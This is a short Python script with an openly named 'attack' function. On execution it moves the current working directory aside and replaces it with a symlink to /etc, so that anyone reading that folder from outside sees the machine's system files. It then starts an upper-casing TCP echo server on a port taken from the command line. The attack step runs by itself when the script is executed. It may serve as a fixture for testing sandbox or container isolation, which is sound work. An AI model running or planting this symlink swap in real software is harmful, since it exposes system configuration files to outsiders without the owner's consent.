"""Puts a link to the machine's files where its folder was, for whoever looks there from outside."""

import os
import socket
import sys


def attack():
    here = os.getcwd()
    try:
        os.rename(here, f"{here}.moved")
        os.symlink("/etc", here)
    except OSError as exc:
        print("held:", exc, flush=True)


attack()
with socket.create_server(("", int(sys.argv[1])), backlog=64) as welcome:
    while True:
        connection, _ = welcome.accept()
        with connection, connection.makefile("rb") as lines:
            for line in lines:
                connection.sendall(line.upper())
